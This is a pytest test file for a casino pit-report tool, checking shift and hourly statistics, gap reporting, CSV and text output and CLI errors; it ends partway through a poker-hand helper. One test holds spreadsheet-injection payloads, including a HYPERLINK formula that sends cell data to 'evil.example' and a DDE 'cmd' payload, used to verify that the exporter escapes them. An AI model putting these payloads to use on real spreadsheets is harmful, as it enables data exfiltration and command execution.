"""`tablectl report` against a real PostgreSQL: a small site's archive written by hand, and every
section of the report worked out by hand from it (times in Europe/Berlin, UTC+1 in March 2024).

The site (local times, 1-2 March 2024):

- bac-01, baccarat: rounds 1 (13:10, player wins) and 2 (13:40, banker) in the day shift; round 3
  (14:05, tie), an alarm and a void of round 4 (14:19, 14:20), round 5 (14:30, banker wins with
  6: pays 1 to 2), round 6 (15:10, player) and round 7 (15:40, banker) in the swing shift. Seats
  1, 2, 3 and 4 pass the player-dealer position round. Seqs 19-21 are an unfillable gap (the
  table had pruned them), seq 24 a gap that was filled.
- bac-02, baccarat, across midnight: round 1 at 21:50 (swing), rounds 2 and 3 at 22:10 and 00:30
  (both the grave shift of 1 March), round 4 voided at 05:59:59 (still that grave shift), round
  5 at 06:00:00 sharp (the day shift of 2 March). Seqs 6-7 are an open gap.
- tcp-01, Three Card Poker: one round at 10:00 with three seats (two win, one folded).
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import date, datetime, timedelta
from pathlib import Path
from urllib.parse import urlsplit, urlunsplit
from zoneinfo import ZoneInfo

import pytest
from archive_rows import ArchiveRows

from controller.pit.report.output import write_csv, write_text
from controller.pit.report.query import HourRow, Period, Report, build, wager_outcomes
from controller.pit.report.shifts import DEFAULT_SHIFTS, ShiftError, Shifts, site_zone, zone_label
from games.baccarat.rules import outcome
from games.cards import cards
from games.three_card_poker.rules import settle

TABLECTL = [sys.executable, "-m", "controller.cli"]
BERLIN = ZoneInfo("Europe/Berlin")
SHIFTS = Shifts.parse(DEFAULT_SHIFTS)

PLAYER = ("2H 5C", "KD 6S")          # P 7, B 6: the player wins, 1 to 1
BANKER = ("2H 4C", "3D 4S")          # P 6, B 7: the banker wins, 1 to 1
TIE = ("2H 5C", "3D 4S")             # 7 and 7: tie pays 8 to 1, player and banker push
BANKER_SIX = ("KH 5C 10D", "QS 6D")  # P 5 on three cards, B 6 stands: the banker wins with 6, 1 to 2


def bac(hands: tuple[str, str], player_dealer: int) -> dict:
    return outcome(cards(hands[0]), cards(hands[1])).to_dict() | {"player_dealer": player_dealer}


def t(when: str) -> str:
    """``03-01T13:10`` -> that local time in Berlin, March 2024."""
    return f"2024-{when}+01:00"


def pd(seat: int, consecutive: int, change: str) -> dict:
    return {"seat": seat, "consecutive": consecutive, "change": change}


def start(round_: int, player_dealer: int | None) -> dict:
    return {"round": round_, "player_dealer": player_dealer, "last_of_shoe": False}


MISREAD = {"code": "shoe_misread", "severity": "fault",
           "message": "a card left the shoe unread (shoe misread): the layout no longer matches what was read",
           "card": None, "expected": None, "missing": [], "extra": [],
           "action": "void the round (dealer's void button or pit cmd/void)"}


@pytest.fixture
def site(pg_url: str) -> str:
    rows = ArchiveRows(pg_url)
    rows.table("bac-01", "baccarat")
    rows.table("bac-02", "baccarat")
    rows.table("tcp-01", "three_card_poker")
    e = rows.event
    e("bac-01", t("03-01T13:02"), "round_start", start(1, 1), 1)
    e("bac-01", t("03-01T13:10"), "result", bac(PLAYER, 1), 1)
    e("bac-01", t("03-01T13:11"), "player_dealer", pd(1, 1, "kept"), 1)
    e("bac-01", t("03-01T13:30"), "round_start", start(2, 1), 2)
    e("bac-01", t("03-01T13:40"), "result", bac(BANKER, 1), 2)
    e("bac-01", t("03-01T13:41"), "player_dealer", pd(2, 0, "offered"), 2)
    e("bac-01", t("03-01T13:50"), "player_dealer", pd(2, 0, "passed"), 2)
    e("bac-01", t("03-01T13:50"), "player_dealer", pd(3, 0, "offered"), 2)
    e("bac-01", t("03-01T13:55"), "player_dealer", pd(3, 0, "accepted"), 2)
    e("bac-01", t("03-01T13:56"), "round_start", start(3, 3), 3)
    e("bac-01", t("03-01T14:05"), "result", bac(TIE, 3), 3)
    e("bac-01", t("03-01T14:06"), "player_dealer", pd(3, 1, "kept"), 3)
    e("bac-01", t("03-01T14:10"), "round_start", start(4, 3), 4)
    e("bac-01", t("03-01T14:19"), "alarm", MISREAD, 4)
    e("bac-01", t("03-01T14:20"), "void", {"round": 4, "reason": "shoe misread", "by": "pit"}, 4)
    e("bac-01", t("03-01T14:22"), "round_start", start(5, 3), 5)
    e("bac-01", t("03-01T14:30"), "result", bac(BANKER_SIX, 3), 5)
    e("bac-01", t("03-01T14:31"), "player_dealer", pd(4, 0, "offered"), 5)               # seq 18
    e("bac-01", t("03-01T15:10"), "result", bac(PLAYER, 4), 6, seq=22)                     # 19-21 lost
    e("bac-01", t("03-01T15:12"), "round_start", start(7, 4), 7)
    e("bac-01", t("03-01T15:40"), "result", bac(BANKER, 4), 7)                            # seq 24
    rows.gap("bac-01", 19, 21, "unfillable", "refused: seqs before 30 were pruned from the journal",
             asked=1, opened="2024-03-01T15:10:01+01:00", closed="2024-03-01T15:10:02+01:00")
    rows.gap("bac-01", 24, 24, "filled", asked=1, closed="2024-03-01T15:41:00+01:00")
    e("bac-02", t("03-01T21:50"), "result", bac(PLAYER, 1), 1)
    e("bac-02", t("03-01T22:10"), "result", bac(BANKER, 1), 2)
    e("bac-02", t("03-02T00:30"), "result", bac(BANKER, 2), 3)
    e("bac-02", t("03-02T05:59:59"), "void", {"round": 4, "reason": "dealer pressed void", "by": "dealer"}, 4)
    e("bac-02", t("03-02T06:00:00"), "result", bac(TIE, 2), 5)                            # seq 5
    e("bac-02", t("03-02T06:30"), "round_start", start(6, 2), 6, seq=8)                   # 6-7 missing
    rows.gap("bac-02", 6, 7, "open", asked=2, opened="2024-03-02T06:30:01+01:00")
    tcp = settle(cards("QS 7H 2D"), {2: (cards("AS KH 3C"), True), 3: (cards("5D 6D 7D"), True),
                                     4: (cards("2C 3H 9S"), False)}) | {"player_dealer": 1}
    e("tcp-01", t("03-01T10:00"), "result", tcp, 1)
    rows.close()
    return pg_url


def report(url: str, *, since: str | None = None, until: str | None = None, tables: tuple[str, ...] = (),
           shifts: Shifts = SHIFTS, zone: ZoneInfo = BERLIN):
    import psycopg

    period = Period(datetime.fromisoformat(since) if since else None,
                    datetime.fromisoformat(until) if until else None)
    with psycopg.connect(url) as conn:
        return build(conn, period, zone, str(zone), shifts, tables)


def local(text: str) -> datetime:
    return datetime.fromisoformat(f"2024-{text}").replace(tzinfo=BERLIN)


# -- each section, worked out by hand --------------------------------------------------------

def test_hands_per_hour_count_results_and_put_voids_beside_them(site: str) -> None:
    got = [(h.table, h.hour, h.hands, h.voids) for h in report(site).hands]
    assert got == [
        ("bac-01", local("03-01T13:00"), 2, 0),
        ("bac-01", local("03-01T14:00"), 2, 1),    # tie, banker six; round 4 voided
        ("bac-01", local("03-01T15:00"), 2, 0),
        ("bac-02", local("03-01T21:00"), 1, 0),
        ("bac-02", local("03-01T22:00"), 1, 0),
        ("bac-02", local("03-02T00:00"), 1, 0),
        ("bac-02", local("03-02T05:00"), 0, 1),    # an hour with a void and no hand
        ("bac-02", local("03-02T06:00"), 1, 0),
        ("tcp-01", local("03-01T10:00"), 1, 0),
    ]


def test_results_by_shift_count_each_wager_outcome_and_a_grave_shift_keeps_the_night(site: str) -> None:
    got = {(b.table, b.game, b.day, b.shift.name): (b.hands, b.voids, dict(b.outcomes)) for b in report(site).results}
    assert list(got) == [
        ("bac-01", "baccarat", date(2024, 3, 1), "day"),
        ("bac-01", "baccarat", date(2024, 3, 1), "swing"),
        ("bac-02", "baccarat", date(2024, 3, 1), "swing"),
        ("bac-02", "baccarat", date(2024, 3, 1), "grave"),   # 22:10, 00:30 and the void at 05:59:59
        ("bac-02", "baccarat", date(2024, 3, 2), "day"),     # 06:00:00 sharp
        ("tcp-01", "three_card_poker", date(2024, 3, 1), "day"),
    ]
    by = list(got.values())
    # rounds 1 (player) and 2 (banker)
    assert by[0] == (2, 0, {("player", "win", "1 to 1"): 1, ("banker", "lose", ""): 1, ("tie", "lose", ""): 2,
                            ("player", "lose", ""): 1, ("banker", "win", "1 to 1"): 1})
    # rounds 3 (tie), 5 (banker with 6), 6 (player), 7 (banker); round 4 voided
    assert by[1] == (4, 1, {("player", "push", ""): 1, ("banker", "push", ""): 1, ("tie", "win", "8 to 1"): 1,
                            ("player", "lose", ""): 2, ("banker", "win", "1 to 2"): 1, ("tie", "lose", ""): 3,
                            ("player", "win", "1 to 1"): 1, ("banker", "lose", ""): 1,
                            ("banker", "win", "1 to 1"): 1})
    assert by[2] == (1, 0, {("player", "win", "1 to 1"): 1, ("banker", "lose", ""): 1, ("tie", "lose", ""): 1})
    assert by[3] == (2, 1, {("player", "lose", ""): 2, ("banker", "win", "1 to 1"): 2, ("tie", "lose", ""): 2})
    assert by[4] == (1, 0, {("player", "push", ""): 1, ("banker", "push", ""): 1, ("tie", "win", "8 to 1"): 1})
    # seat 2 (ace high) and seat 3 (straight flush) beat a qualifying queen high; seat 4 folded
    assert by[5] == (1, 0, {("ante", "win", "1 to 1"): 2, ("play", "win", "1 to 1"): 2, ("bonus", "lose", ""): 2,
                            ("bonus", "win", "40 to 1"): 1, ("ante", "lose", ""): 1})


def test_alarms_and_voids_with_their_reasons_in_order(site: str) -> None:
    got = [(a.table, a.time, a.seq, a.round, a.event, a.severity, a.code, a.by, a.reason, a.action)
           for a in report(site).alarms]
    assert got == [
        ("bac-01", local("03-01T14:19"), 14, 4, "alarm", "fault", "shoe_misread", "", MISREAD["message"],
         MISREAD["action"]),
        ("bac-01", local("03-01T14:20"), 15, 4, "void", "", "", "pit", "shoe misread", ""),
        ("bac-02", local("03-02T05:59:59"), 4, 4, "void", "", "", "dealer", "dealer pressed void", ""),
    ]


def test_rotation_history(site: str) -> None:
    got = [(r.table, r.seq, r.round, r.seat, r.change, r.consecutive) for r in report(site).rotation]
    assert got == [("bac-01", 3, 1, 1, "kept", 1), ("bac-01", 6, 2, 2, "offered", 0),
                   ("bac-01", 7, 2, 2, "passed", 0), ("bac-01", 8, 2, 3, "offered", 0),
                   ("bac-01", 9, 2, 3, "accepted", 0), ("bac-01", 12, 3, 3, "kept", 1),
                   ("bac-01", 18, 5, 4, "offered", 0)]


def test_gaps_open_and_unfillable_with_the_events_around_them_and_never_the_filled(site: str) -> None:
    got = [(g.table, g.first_seq, g.last_seq, g.missing, g.status, g.reason, g.asked, g.after, g.before)
           for g in report(site).gaps]
    assert got == [
        ("bac-01", 19, 21, 3, "unfillable", "refused: seqs before 30 were pruned from the journal", 1,
         local("03-01T14:31"), local("03-01T15:10")),
        ("bac-02", 6, 7, 2, "open", "", 2, local("03-02T06:00"), local("03-02T06:30")),
    ]


def test_a_period_and_a_table_narrow_every_section(site: str) -> None:
    r = report(site, since="2024-03-01T14:00+01:00", until="2024-03-02T00:00+01:00")
    assert [(h.table, h.hour.hour, h.hands, h.voids) for h in r.hands] == [
        ("bac-01", 14, 2, 1), ("bac-01", 15, 2, 0), ("bac-02", 21, 1, 0), ("bac-02", 22, 1, 0)]
    assert [(b.table, b.shift.name, b.hands, b.voids) for b in r.results] == [
        ("bac-01", "swing", 4, 1), ("bac-02", "swing", 1, 0), ("bac-02", "grave", 1, 0)]
    assert [a.seq for a in r.alarms] == [14, 15]
    assert [p.seq for p in r.rotation] == [12, 18]
    # bac-01's lost seqs fall between 14:31 and 15:10; bac-02's come after 06:00 on the 2nd
    assert [(g.table, g.first_seq) for g in r.gaps] == [("bac-01", 19)]
    r = report(site, tables=("bac-02",))
    assert {h.table for h in r.hands} == {"bac-02"} and [g.first_seq for g in r.gaps] == [6]
    assert r.rotation == [] and [a.seq for a in r.alarms] == [4]


def test_an_hour_the_clocks_go_back_is_two_hours(pg_url: str) -> None:
    """New York, 3 November 2024: 01:00-02:00 happens twice (EDT, then EST)."""
    rows = ArchiveRows(pg_url)
    rows.table("bac-09", "baccarat")
    rows.event("bac-09", "2024-11-03T01:30:00-04:00", "result", bac(PLAYER, 1), 1)
    rows.event("bac-09", "2024-11-03T01:30:00-05:00", "result", bac(BANKER, 1), 2)
    rows.event("bac-09", "2024-11-03T01:40:00-05:00", "result", bac(TIE, 1), 3)
    rows.close()
    york = ZoneInfo("America/New_York")
    r = report(pg_url, zone=york)
    assert [(h.hour.isoformat(), h.hands) for h in r.hands] == [("2024-11-03T01:00:00-04:00", 1),
                                                                 ("2024-11-03T01:00:00-05:00", 2)]
    # the grave shift of 2 November ran 9 hours and holds all three
    assert [(b.day, b.shift.name, b.hands) for b in r.results] == [(date(2024, 11, 2), "grave", 3)]


# -- the pieces ------------------------------------------------------------------------------

def test_wager_outcomes_read_the_one_wager_shape_whatever_the_game() -> None:
    assert sorted(wager_outcomes(bac(BANKER_SIX, 1))) == [("banker", "win", "1 to 2"), ("player", "lose", ""),
                                                          ("tie", "lose", "")]
    surrender = {"seats": {"2": {"hands": [{"wagers": [{"wager": "bet", "outcome": "lose", "pays": None,
                                                         "why": "surrendered", "stake": "1/2"}]}]}}}
    assert wager_outcomes(surrender) == [("bet", "lose", "stake 1/2")]
    # a seat number is never taken for a wager's name; a poker-room hand settles no wager
    assert wager_outcomes({"seats": {"3": {"outcome": "win"}}}) == []
    assert wager_outcomes({"showdown": {"high": [2], "low": [], "pot": "high"}, "collection": {"fee": 300}}) == []


@pytest.mark.parametrize(("spec", "when", "expect"), [
    (DEFAULT_SHIFTS, "2024-03-01T05:59:59", ("2024-02-29", "grave")),
    (DEFAULT_SHIFTS, "2024-03-01T06:00:00", ("2024-03-01", "day")),
    (DEFAULT_SHIFTS, "2024-03-01T23:59:00", ("2024-03-01", "grave")),
    (DEFAULT_SHIFTS, "2024-03-02T00:00:00", ("2024-03-01", "grave")),
    ("a=07:30-19:30,b=19:30-07:30", "2024-03-01T07:29:00", ("2024-02-29", "b")),
    ("a=07:30-19:30,b=19:30-07:30", "2024-03-01T19:29:00", ("2024-03-01", "a")),
    ("all=04-04", "2024-03-01T03:00:00", ("2024-02-29", "all")),
    ("early=00-12,late=12-24", "2024-03-01T12:00:00", ("2024-03-01", "late")),
])
def test_a_moment_falls_in_one_shift_of_the_day_it_started(spec: str, when: str, expect: tuple[str, str]) -> None:
    day, shift = Shifts.parse(spec).of(datetime.fromisoformat(when).replace(tzinfo=BERLIN))
    assert (day.isoformat(), shift.name) == expect


@pytest.mark.parametrize(("spec", "why"), [
    ("day=06-14,swing=14-22", "the shifts must cover the day once: nothing covers 22:00-06:00"),
    ("day=06-15,swing=14-06", "the shifts must cover the day once: day 06:00-15:00 overlaps swing 14:00-06:00"),
    ("a=06-08,b=07-06", "a 06:00-08:00 overlaps b 07:00-06:00"),
    ("day=6to14", "'day=6to14' is not NAME=HH-HH"),
    ("day=06-14,day=14-06", "shift 'day' is named twice"),
    ("day=25-14,night=14-25", "'day=25-14': 25 is not a time of day"),
    ("a=06-06,b=06-07", "a shift that starts when it ends is the whole day: it must be the only one"),
])
def test_shifts_that_do_not_cover_the_day_once_are_refused_naming_why(spec: str, why: str) -> None:
    with pytest.raises(ShiftError) as caught:
        Shifts.parse(spec)
    assert why in str(caught.value)


def test_the_zone_is_the_machines_unless_named() -> None:
    assert site_zone("Europe/Berlin")[1] == "Europe/Berlin"
    with pytest.raises(ShiftError, match="'Mars/Olympus': not a time zone name"):
        site_zone("Mars/Olympus")


# -- the formats -----------------------------------------------------------------------------

def test_text_aligns_the_columns_and_shows_every_section(site: str) -> None:
    out = io.StringIO()
    write_text(report(site), ("hands", "results", "alarms", "rotation", "gaps"), out)
    lines = out.getvalue().splitlines()
    assert lines[0] == ("Pit report from the first event to the last event (tables' clocks, shown in "
                        "Europe/Berlin: CET = UTC+01:00)")
    assert lines[1] == "Shifts: day 06:00-14:00, swing 14:00-22:00, grave 22:00-06:00"
    hands = lines.index("TABLE   HOUR                  HANDS  VOIDS")
    assert lines[hands + 1:hands + 4] == ["bac-01  2024-03-01 13:00 CET      2      0",
                                          "        2024-03-01 14:00 CET      2      1",
                                          "        2024-03-01 15:00 CET      2      0"]
    grave = next(i for i, line in enumerate(lines) if "grave" in line and line.startswith("bac-02"))
    assert lines[grave].split() == ["bac-02", "baccarat", "2024-03-01", "grave", "2", "1", "banker", "win",
                                    "1", "to", "1", "2"]
    assert lines[grave + 1].split() == ["player", "lose", "2"]   # the block's table and shift left blank
    assert any(line.startswith("bac-01  2024-03-01 14:19:00 CET   14      4  alarm  fault     shoe_misread")
               for line in lines)
    assert "GAPS: EVENTS THE ARCHIVE DOES NOT HOLD" in lines


def test_a_report_without_its_gaps_section_still_says_what_is_missing(site: str) -> None:
    out = io.StringIO()
    write_text(report(site), ("hands",), out)
    assert out.getvalue().splitlines()[-1] == (
        "MISSING: 5 events of bac-01, bac-02 are not in the archive (2 gaps, 1 unfillable): the counts are "
        "short by them; tablectl report --only gaps")


def test_csv_rows_are_whole(site: str) -> None:
    out = io.StringIO()
    assert write_csv(report(site, tables=("tcp-01",)), "results", out) == 5
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [
        ["table", "game", "shift_date", "shift", "hands", "voids", "wager", "outcome", "terms", "count"],
        ["tcp-01", "three_card_poker", "2024-03-01", "day", "1", "0", "ante", "lose", "", "1"],
        ["tcp-01", "three_card_poker", "2024-03-01", "day", "1", "0", "ante", "win", "1 to 1", "2"],
        ["tcp-01", "three_card_poker", "2024-03-01", "day", "1", "0", "bonus", "lose", "", "2"],
        ["tcp-01", "three_card_poker", "2024-03-01", "day", "1", "0", "bonus", "win", "40 to 1", "1"],
        ["tcp-01", "three_card_poker", "2024-03-01", "day", "1", "0", "play", "win", "1 to 1", "2"],
    ]


def test_csv_text_a_spreadsheet_would_run_is_written_as_text(pg_url: str) -> None:
    """A table's text (a void's reason, an alarm's message and action) is anyone's to write: a cell
    starting ``=``, ``+``, ``-``, ``@``, a tab or a CR gets a leading ``'`` so a spreadsheet shows it,
    never runs it; numbers stay numbers."""
    rows = ArchiveRows(pg_url)
    rows.table("bac-09", "baccarat")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows.event("bac-09", t("03-01T13:00"), "alarm", MISREAD | {"message": "+cmd|' /C calc'!A0",
                                                                "action": "@SUM(1+1)*cmd"}, 1)
    rows.event("bac-09", t("03-01T13:01"), "void", {"round": 1, "reason": evil, "by": "pit"}, 1)
    rows.event("bac-09", t("03-01T13:02"), "alarm", MISREAD | {"message": "\t=1+1", "action": "\r=1"}, 2)
    rows.event("bac-09", t("03-01T13:03"), "void", {"round": 2, "reason": "-2+3", "by": "dealer"}, 2)
    rows.event("bac-09", t("03-01T13:04"), "void", {"round": 3, "reason": "shoe misread", "by": "pit"}, 3)
    rows.close()
    out = io.StringIO()
    assert write_csv(report(pg_url), "alarms", out) == 5
    got = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert got[0] == ["table", "time", "seq", "round", "event", "severity", "code", "by", "reason", "action", "zone"]
    alarm, void, alarm2, void2, plain = got[1:]
    assert alarm[2:4] == ["1", "1"] and alarm[8:10] == ["'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd"]
    assert void[2:4] == ["2", "1"] and void[7:9] == ["pit", "'" + evil]
    assert alarm2[8:10] == ["'\t=1+1", "'\r=1"]
    assert void2[7:9] == ["dealer", "'-2+3"]
    assert plain[7:9] == ["pit", "shoe misread"]
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in got for cell in row)


# -- the command, end to end ------------------------------------------------------------------

def run(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([*TABLECTL, "report", *args], capture_output=True, text=True, timeout=60,
                          env={**os.environ, **(env or {})})


def test_the_command_writes_one_csv_file_per_section(site: str, tmp_path: Path) -> None:
    out = tmp_path / "march"
    proc = run("--db", site, "--tz", "Europe/Berlin", "--format", "csv", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines() == [f"{out}/hands.csv: 9 rows", f"{out}/pace.csv: 6 rows",
                                        f"{out}/results.csv: 28 rows", f"{out}/collections.csv: 0 rows",
                                        f"{out}/alarms.csv: 3 rows", f"{out}/rotation.csv: 7 rows", f"{out}/integrity.csv: 0 rows",
                                        f"{out}/gaps.csv: 2 rows"]
    with (out / "hands.csv").open(newline="") as f:
        hands = list(csv.DictReader(f))
    assert [(h["table"], h["hour"], h["hands"], h["voids"]) for h in hands][3:5] == [
        ("bac-02", "2024-03-01 21:00+01:00", "1", "0"), ("bac-02", "2024-03-01 22:00+01:00", "1", "0")]
    with (out / "gaps.csv").open(newline="") as f:
        gaps = list(csv.DictReader(f))
    assert gaps[0] == {"table": "bac-01", "first_seq": "19", "last_seq": "21", "missing": "3",
                       "status": "unfillable", "reason": "refused: seqs before 30 were pruned from the journal",
                       "asked": "1", "after": "2024-03-01 14:31:00+01:00", "before": "2024-03-01 15:10:00+01:00",
                       "opened_at": "2024-03-01 15:10:01+01:00", "closed_at": "2024-03-01 15:10:02+01:00",
                       "zone": "Europe/Berlin"}


def test_the_command_prints_text_in_the_machines_zone_and_one_csv_section_on_stdout(site: str) -> None:
    proc = run("--db", site, "--since", "2024-03-02", "--table", "bac-02", env={"TZ": "Europe/Berlin"})
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines()[0] == ("Pit report from 2024-03-02 00:00:00 CET to the last event "
                                           "(tables' clocks, shown in Europe/Berlin: CET = UTC+01:00)")
    assert "bac-02  2024-03-02 00:00 CET      1      0" in proc.stdout
    assert "bac-01" not in proc.stdout
    proc = run("--db", site, "--tz", "UTC", "--format", "csv", "--only", "alarms", "--until", "2024-03-02")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(proc.stdout)))
    assert [r[:5] for r in rows[1:]] == [["bac-01", "2024-03-01 13:19:00+00:00", "14", "4", "alarm"],
                                         ["bac-01", "2024-03-01 13:20:00+00:00", "15", "4", "void"]]
    assert proc.stderr.startswith("MISSING: 3 events of bac-01")   # the gap is said, off the CSV


@pytest.mark.parametrize(("args", "error"), [
    (["--db", "mysql://pit@db/pit"], "--db mysql://pit@db/pit: not a PostgreSQL URL"),
    (["--db", "postgresql://pit:s3cret@127.0.0.1:1/pit"],
     "cannot open the archive at postgresql://pit:***@127.0.0.1:1/pit: connection failed"),
    (["--db", "postgresql://pit@127.0.0.1:notaport/pit"], "not a PostgreSQL URL (Port could not be cast"),
    (["--since", "yesterday"], "--since 'yesterday': not an ISO 8601 date or time"),
    (["--since", "2024-03-02", "--until", "2024-03-01"], "--until 2024-03-01 is not after --since 2024-03-02"),
    (["--tz", "Europe/Atlantis"], "--tz 'Europe/Atlantis': not a time zone name"),
    (["--shifts", "day=06-14"], "--shifts 'day=06-14': the shifts must cover the day once: nothing covers 14:00-06:00"),
    (["--table", "bac 01"], "--table 'bac 01': not a table id"),
    (["--format", "csv"], "CSV is one section per file: give --out DIR"),
    (["--idle", "0"], "--idle 0: minutes between 0 and 1440 (a day)"),
    (["--idle", "nan"], "--idle nan: minutes between 0 and 1440 (a day)"),
])
def test_each_wrong_option_is_one_line_and_exit_2(args: list[str], error: str) -> None:
    argv = args if "--db" in args else ["--db", "postgresql://pit@127.0.0.1:1/pit", *args]
    proc = run(*argv)
    assert proc.returncode == 2, proc
    assert proc.stdout == ""
    assert len(proc.stderr.splitlines()) == 1 and proc.stderr.startswith("tablectl report: "), proc.stderr
    assert error in proc.stderr, proc.stderr
    assert "s3cret" not in proc.stderr


def test_a_database_that_is_not_the_archive_or_not_there(postgres, pg_url: str) -> None:
    proc = run("--db", pg_url)
    assert (proc.returncode, proc.stderr) == (2, "tablectl report: this database holds no pit archive (no table "
                                                 "events, gaps, tables): is it the one tablectl pit writes to?\n")
    proc = run("--db", postgres.url("nosuchdb"))
    assert proc.returncode == 2 and len(proc.stderr.splitlines()) == 1
    assert 'database "nosuchdb" does not exist' in proc.stderr


def test_a_read_the_database_refuses_is_one_line_and_exit_1(site: str) -> None:
    """A role that may connect but not read the archive (a grant forgotten): the report says what
    the server said, on one line."""
    import psycopg

    parts = urlsplit(site)
    role = f"reader_{parts.path.strip('/')}"   # roles are the server's, not the database's: one per test
    with psycopg.connect(site, autocommit=True) as conn:
        conn.execute(f'CREATE ROLE "{role}" LOGIN')
    url = urlunsplit(parts._replace(netloc=f"{role}@{parts.hostname}:{parts.port}"))
    proc = run("--db", url)
    assert proc.returncode == 1 and proc.stdout == "", proc
    assert len(proc.stderr.splitlines()) == 1
    assert proc.stderr.startswith(f"tablectl report: reading the archive at {url} failed: ")
    assert "permission denied for table" in proc.stderr


# -- the poker room: collections, hands per hour, a night the clocks go back -----------------------
#
# The site (America/Los_Angeles; the clocks go back at 02:00 PDT on Sunday 1 November 2026, to
# 01:00 PST: 01:00-02:00 happens twice, and the grave shift of 31 October runs 9 hours). Each
# hand is its round_start (bets open), its deal (the transition into dealing), the action_button
# that starts it (its collection) and its result or void; 6 players unless said.
#
# - hld-01, Hold'em, holdem_4_8 (a pot fee by players: 7+ $4, 5-6 $3, 2-4 $1; the jackpot $1
#   from 5 players). Opens 21:00 PDT. Hand 1 dealt 21:11, result 21:20; hand 2 dealt 21:22,
#   voided 21:25 (misdeal); hand 3 (its redeal) dealt 21:27, result 21:40; hand 4 (4 players)
#   dealt 21:50, result 22:05; hand 5 (5 players) dealt 22:08, result 22:20, its result delivered
#   twice; hand 6 (7 players) waits for players from 22:21 and is dealt 23:30, result 23:45;
#   hand 7 dealt 01:40 PDT, result 01:55 PDT; hand 8 dealt 01:58 PDT, result 01:10 PST (12
#   minutes later); hand 9 (4 players) dealt 01:12 PST, result 01:30 PST. Closes 01:45 PST.
# - drw-01, Draw, the time collection "5.00 every 1/2 hr.". Opens 21:30 PDT. Hand 1 dealt 21:36
#   (every seat's time: $30), result 21:50; hand 2 dealt 21:52 (nobody's time due), voided 21:55
#   (misdeal); hand 3 redeals it, dealt 21:57 (nothing due), result 22:10; hand 4 dealt 22:12
#   (every seat due again: $30), voided 22:15 (NO POT); hand 5 dealt 22:28 (nothing due), result
#   22:45; hand 6 (seat 6 left) dealt 22:47 (five seats due: $25), result 23:00. Closes 23:05.
# - pan-01, Panguingue, condition 5.00 (fee 3.00 and ante 5.00 each), 5 players. Opens 05:00
#   PST on 1 November. Hand 1 dealt 05:15, result 05:40; hand 2 dealt 05:45, voided 05:50
#   (misdeal); hand 3 dealt 05:55, result 06:30 (the day shift of 1 November).
# - mex-01, Mexican Stud, its own schedule: 1.00 from each player, a 1.00 jackpot from 5
#   players. Its opening is not archived. Hand 1 dealt 20:01, result 20:10; hand 2 (4 players)
#   dealt 20:12, result 20:20.
# - rou-01, a game this pit does not know: one result it can read (20:30) and one it cannot
#   (20:40: an outcome that is not win, lose or push).

LA = ZoneInfo("America/Los_Angeles")


def pdt(when: str) -> str:
    return f"2026-{when}-07:00"


def pst(when: str) -> str:
    return f"2026-{when}-08:00"


def seats(n: int) -> list[int]:
    return list(range(1, n + 1))


def holdem(players: int) -> tuple[dict, dict]:
    """A Hold'em hand's action_button and result, the collection as holdem_4_8 posts it."""
    fee = 400 if players >= 7 else 300 if players >= 5 else 100
    take = {"players": players, "fee": fee, "jackpot": 100 if players >= 5 else 0, "basis": "pot",
            "schedule": "holdem_4_8"}
    pos = {"dead_button": False, "small_blind": 2, "big_blind": 3, "players": seats(players), "variant": "holdem",
           "collection": take}
    return {"seat": 1, **pos}, {"button": 1, **pos, "showdown": None}


def draw(due: list[int], players: int = 6, redeal_of: int | None = None) -> tuple[dict, dict]:
    """A Draw hand on the posted time collection: the seats whose half hour is due as it starts."""
    take = {"players": players, "fee": 500 * len(due), "jackpot": 0, "basis": "time", "time_fee_each": 500,
            "period_minutes": 30, "schedule": "draw_lowball", "time_due": due,
            "time_left": {str(s): 30 for s in seats(players)}}
    blinds = [{"amount": 200, "seat": 1}, {"amount": 300, "seat": 2}, {"amount": 500, "seat": 3}]
    pos = {"dead_button": False, "big_blind": 3, "players": seats(players), "variant": "draw",
           "stakes": {"ante": 100, "antes": 100 * players, "blinds": blinds}, "collection": take,
           "redeal_of": redeal_of}
    return ({"seat": 6, **pos},
            {"button": 6, **pos, "moved_button": None, "draws": None, "stub": None, "dead_hands": [],
             "no_further_action": False, "irregularities": [], "showdown": None})


def pan() -> tuple[dict, dict]:
    take = {"players": 5, "fee": 1500, "jackpot": 0, "basis": "condition", "fee_each": 300, "ante_each": 500,
            "ante": 2500, "condition": 500, "schedule": "panguingue"}
    order = [1, 5, 4, 3, 2]
    return ({"seat": 1, "why": "the first hand: game.first_seat", "order": order, "players": seats(5),
             "condition": 500, "collection": take},
            {"first_seat": 1, "order": order, "players": seats(5), "condition": 500, "collection": take,
             "winner": None, "how": "not_entered", "why": "no winner was entered", "tops": 2500,
             "antes_returned": [], "next_start": 1,
             "hands": [{"seat": s, "status": "alive", "declared": "play", "cards": None} for s in order]})


def mexican(players: int) -> tuple[dict, dict]:
    take = {"players": players, "fee": 100 * players, "jackpot": 100 if players >= 5 else 0, "basis": "player",
            "fee_each": 100, "schedule": "table"}
    return ({"seat": 1, "players": seats(players), "collection": take},
            {"button": 1, "players": seats(players), "collection": take, "up_cards": {}, "exposed": {},
             "showdown": None})


BAD_WAGER = {"wager": "main", "outcome": {"win": 1}}


class Hands:
    """Hands as a poker table publishes them, into the archive."""

    def __init__(self, rows: ArchiveRows, table: str) -> None:
        self.rows, self.table, self.round = rows, table, 0

    def table_event(self, at: str, status: str) -> None:
        self.rows.event(self.table, at, "table", {"status": status})

    def hand(self, opened: str, dealt: str, ended: str, events: tuple[dict, dict], void: str | None = None) -> dict:
        """One hand: bets open, the deal, its collection, its result (or its void); the result's envelope."""
        self.round += 1
        e, n = self.rows.event, self.round
        e(self.table, opened, "round_start", {"round": n, "player_dealer": None, "last_of_shoe": False}, n)
        e(self.table, dealt, "transition", {"from": "betting", "to": "dealing", "trigger": "no_more_bets"}, n)
        start, result = events
        e(self.table, dealt, "action_button", start, n)
        if void is not None:
            return e(self.table, ended, "void", {"round": n, "reason": void, "by": "pit"}, n)
